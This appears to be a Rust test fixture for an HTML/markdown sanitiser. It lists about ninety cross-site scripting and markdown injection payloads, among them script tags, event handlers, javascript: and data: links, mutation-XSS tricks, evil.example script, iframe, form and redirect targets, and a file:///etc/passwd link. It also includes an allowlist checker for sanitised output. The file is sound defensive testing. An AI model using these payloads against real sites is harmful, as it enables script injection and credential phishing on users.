//! What somebody might type to make a page do more than show text, and what a tame page looks like.

/// Each is typed as the body of a text.
pub const ALL: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1)\">",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=https://evil.example><input name=pin><button>보내기</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "</div></main><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https://example.com \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://example.com/\"onmouseover=alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'title'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/p.png)",
    "![x\" onerror=\"alert(1)](y)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a[b[c](javascript:alert(1))](javascript:alert(2))](javascript:alert(3))",
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onclick=\"alert(1)\nx\n```",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "# <svg/onload=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
    "1. <img src=x onerror=alert(1)>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"https://example.com\" onclick=\"alert(1)\" target=_blank>x</a>",
    "<a id=x name=cookie href=#>x</a>",
    "\u{202e}<script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "{{constructor.constructor('alert(1)')()}}",
];

const TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "s",
    "b",
    "i",
];
const ATTRIBUTES: &[&str] = &["href", "title", "rel", "start", "align"];

/// Only text's own tags, no handler, no address but those people mean. `html` is serialised by a parser: every `<` in it
/// begins a tag.
pub fn assert_tame(html: &str, from: &str) {
    for (at, _) in html.match_indices('<') {
        let tag = &html[at + 1..];
        let tag = &tag[..tag.find('>').unwrap_or_else(|| panic!("an open tag in {html} from {from}"))];
        let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(TAGS.contains(&name.as_str()), "<{name}> in {html} from {from}");
        let mut rest = tag.trim_start_matches('/')[name.len()..].trim();
        while !rest.is_empty() {
            let (attribute, after) = rest.split_once("=\"").unwrap_or_else(|| panic!("{rest:?} in {html} from {from}"));
            let (value, after) = after.split_once('"').unwrap_or_else(|| panic!("{rest:?} in {html} from {from}"));
            assert!(ATTRIBUTES.contains(&attribute), "{attribute} in {html} from {from}");
            if attribute == "href" {
                let lower = value.to_ascii_lowercase();
                let scheme = lower.split(['/', '?', '#']).next().unwrap_or_default();
                let known = ["http:", "https:", "tel:", "mailto:"].iter().any(|known| lower.starts_with(known));
                assert!(known || !scheme.contains(':'), "{value} in {html} from {from}");
            }
            rest = after.trim();
        }
    }
}
